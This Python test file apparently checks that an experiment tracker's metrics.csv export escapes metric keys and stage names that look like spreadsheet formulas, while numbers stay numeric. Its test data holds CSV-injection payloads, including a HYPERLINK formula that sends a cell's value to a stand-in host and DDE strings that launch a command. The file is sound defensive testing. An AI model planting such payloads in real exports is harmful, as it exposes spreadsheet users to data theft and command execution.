"""The viewer's metrics.csv download never hands a spreadsheet a formula: metric keys and stage
names that start like one are written with a leading ``'``, numbers stay numbers
(docs/api.md, metrics.csv; docs/viewer.md#security)."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import httpx

import runicorn

KEYS = {
    '=HYPERLINK("http://example.invalid/?"&A1,"click")': 1.5,
    "+1+cmd|' /C calc'!A0": -0.5,
    "-2+3": -1e-3,
    "@SUM(A1:A9)": 2.0,
    "\tcmd": 3.0,
    "\rcmd": 4.0,
    "plain/loss": -4.25,
}


def test_metric_keys_and_stages_that_look_like_formulas_are_text_and_numbers_stay_numbers(
    storage_root: Path, live_viewer
) -> None:
    run = runicorn.init(
        project="p", name="n", storage=storage_root, capture_console=False, system_metrics=False
    )
    run.log(KEYS, step=1, stage="=cmd|' /C calc'!A0")
    run.log({"plain/loss": -0.5}, step=2, stage="-train")
    run.log({"plain/loss": 0.25}, step=3, stage="train")
    run.finish()

    response = httpx.get(f"{live_viewer(storage_root)}/api/runs/{run.id}/metrics.csv", timeout=30)
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.text, newline="")))
    header, cells = rows[0], rows[1:]
    assert header[:3] == ["step", "time", "stage"]
    assert sorted(header[3:]) == sorted(k if k[0] not in "=+-@\t\r" else "'" + k for k in KEYS)
    for cell in header + [row[2] for row in cells]:  # the text cells
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    assert [row[2] for row in cells] == ["'=cmd|' /C calc'!A0", "'-train", "train"]
    by_key = {h[1:] if h.startswith("'") else h: i for i, h in enumerate(header)}
    first = cells[0]
    for key, value in KEYS.items():
        assert float(first[by_key[key]]) == value  # numbers as they were, -0.5 and -0.001 included
    assert [row[by_key["plain/loss"]] for row in cells] == ["-4.25", "-0.5", "0.25"]
